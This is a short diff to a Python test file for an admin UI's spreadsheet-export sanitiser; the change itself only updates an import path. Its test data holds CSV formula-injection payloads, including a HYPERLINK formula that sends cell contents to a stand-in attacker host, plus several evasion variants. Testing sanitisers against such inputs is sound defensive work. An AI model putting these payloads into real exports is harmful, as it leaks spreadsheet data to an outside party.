@@ -7,7 +7,7 @@ import pandas as pd
 import pytest
 from hypothesis import given, strategies as st
 
-from admin_ui.export import FORMULA_STARTS, csv_bytes, spreadsheet_safe
+from admin_ui.views.export import FORMULA_STARTS, csv_bytes, spreadsheet_safe
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\n@x", "\u3000=1",
